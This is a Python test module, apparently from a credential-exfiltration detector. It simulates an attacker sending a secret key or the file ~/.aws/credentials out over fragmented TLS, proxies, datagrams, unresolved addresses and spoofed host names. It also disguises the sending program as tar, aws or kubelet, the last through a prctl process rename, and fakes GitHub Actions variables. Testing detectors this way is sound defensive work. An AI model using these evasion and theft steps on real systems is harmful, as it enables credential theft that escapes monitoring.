# SPDX-License-Identifier: Apache-2.0
"""Ways out that hide where a holder sends to. Right: the name, or a row with the address and why there is no name."""
import os
import shutil

from attack import ANY, NAMED, PYTHON, THIEF, Attack, Right
from case import S3


class Out(Attack):
    """The key stands in the environment."""
    def out(self, way, *words, right=None):
        self.thief("out", way, *(words or [self.host]), env=self.key.env())
        return right or Right(taken=True, used=NAMED)


def goes(way):
    return lambda attack: attack.out(way)


class Hellos(Out):
    """One greeting, cut in many ways. Its connection is a use: a request follows."""
    attack_plain = goes("plain")
    attack_first_byte_alone = goes("first_byte")
    attack_pieces_of_48_bytes = goes("pieces")
    attack_many_records = goes("records")
    attack_over_4096_bytes = goes("big")
    attack_byte_by_byte = goes("bytes")
    attack_records_of_three_bytes = goes("last_record")


class Sockets(Out):
    attack_address_of_six_in_four = goes("mapped")
    attack_multipath = goes("multipath")
    attack_fast_open = goes("fast_open")
    attack_socket_that_another_process_connected = goes("passed_socket")

    def attack_datagram_to_443(self):
        return self.out("datagram", right=Right(taken=True, used=ANY))


class Nowhere(Out):
    """A place that nobody knows, by its address alone."""
    def send(self, way, port):
        self.host, self.address = "", self.world.command(f"address {self.maker.public(8)}.drop.test")
        return self.out(way, self.address, port, right=Right(taken=True, used=("possible",),
                                                            reason="unknown_destination"))

    def attack_datagram_to_any_port(self):
        return self.send("datagram", "9999")

    def attack_datagram_without_a_connect(self):
        return self.send("datagram_anywhere", "8125")

    def attack_datagram_of_six_in_four(self):
        return self.send("datagram_of_six", "123")

    def attack_words_of_no_protocol(self):
        return self.send("words", "443")


class Proxies(Out):
    def through(self, way):
        proxy = self.start([PYTHON, "-I", THIEF, "proxy"], cgroup=False)
        self.port = str(proxy.until("listen")[0]["port"])
        return self.out(way, self.host, self.port)

    def attack_connect_in_pieces(self):
        return self.through("connect")

    def attack_socks5(self):
        return self.through("socks")

    def attack_socks4(self):
        return self.through("socks4")

    def attack_connect_without_waiting(self):
        return self.through("eager")


class Claims(Out):
    def attack_address_without_a_name(self):
        self.host = ""
        return self.out("no_name", self.address, right=Right(taken=True, used=("possible",)))

    def attack_providers_name_at_an_address_that_nobody_resolved(self):
        where = self.world.command(f"address {self.maker.public(8)}.drop.test")
        self.address, self.true = where, self.key.id
        return self.out("claimed", f"{where}={self.host}", right=Right(taken=True, used=NAMED, claimed=True))

    def attack_providers_name_at_this_machine(self):
        self.address = "127.0.0.1"
        return self.out("claimed", "127.0.0.1=" + S3, right=Right(
            taken=True, used=("possible",), reason="name_at_local_address", claimed=True))


class Programs(Attack):
    """A program's name says nothing of what it is."""
    def named(self, name, *words, **options):
        program = f"{self.folder}/{name}"
        shutil.copy(os.path.realpath(PYTHON), program)
        return self.thief(*words, program=program, **options)

    def attack_called_like_a_backup(self):
        """Who reads everything is no holder of it, but its calls are told."""
        self.named("tar", "take", "open", "/srv/home/.aws/credentials", "out", "plain", self.host)
        return Right(taken=True, used=ANY, listed=False)

    def roles(self, name, reason, evidence, key):
        """What a program is for bars only the keys that it has for others."""
        self.key, self.true = key, key.id
        self.named(name, "out", "plain", self.host, env=self.key.env())
        return Right(taken=True, used=(evidence,), reason=reason)

    def attack_called_like_a_backup_with_a_key_in_its_environment(self):
        return self.roles("restic", "only_key_held", "inferred", self.maker.aws())

    def attack_called_like_a_hub_with_a_kind_of_its_own(self):
        return self.roles("karpenter", "only_key_held", "inferred", self.maker.aws(session=True))

    def attack_called_like_a_hub_with_somebodys_key(self):
        return self.roles("karpenter", "relay_or_hub", "possible", self.maker.aws())

    def attack_called_like_a_client_that_obeys_its_profile(self):
        other = self.maker.aws()
        self.more = {"home2/.aws/credentials": (other.profile("prod") + self.key.profile("spare"), 0o600)}
        self.true = ""  # it uses what it likes
        self.named("aws", "take", "open", "/srv/home2/.aws/credentials", "out", "plain", self.host,
                   env={"AWS_PROFILE": "prod"})
        return Right(taken=True, used=("possible",))

    def attack_called_like_kubelet_in_its_process_name(self):
        code = ("import ctypes, runpy, sys; ctypes.CDLL(None).prctl(15, b'kubelet', 0, 0, 0); sys.argv = sys.argv[1:]; "
                "runpy.run_path(sys.argv[0], run_name='__main__')")
        self.start([PYTHON, "-I", "-c", code, THIEF, "take", "open", "/srv/home/.aws/credentials", "out", "plain",
                    self.host], binds=self.disk())
        exe = os.path.realpath(PYTHON)
        return lambda rows: ([f"{row['actor']['exe']} {row['actor']['program']}" for row in rows
                              if row["actor"]["exe"] != exe or row["actor"]["program"] == "kubelet"]
                             + Right(taken=True, used=NAMED).faults(self, rows))

    def attack_called_like_a_job_of_somebody_elses_repository(self):
        env = {**self.key.env(), "GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "victim/prod", "GITHUB_RUN_ID": "7"}
        self.thief("out", "plain", self.host, env=env, cgroups=self.unit("builder"))
        return lambda rows: ([f"the workload is called {row['actor']['workload']}" for row in rows
                              if "victim/prod" in row["actor"]["workload"].get("name", "")]
                             + Right(taken=True, used=NAMED).faults(self, rows))
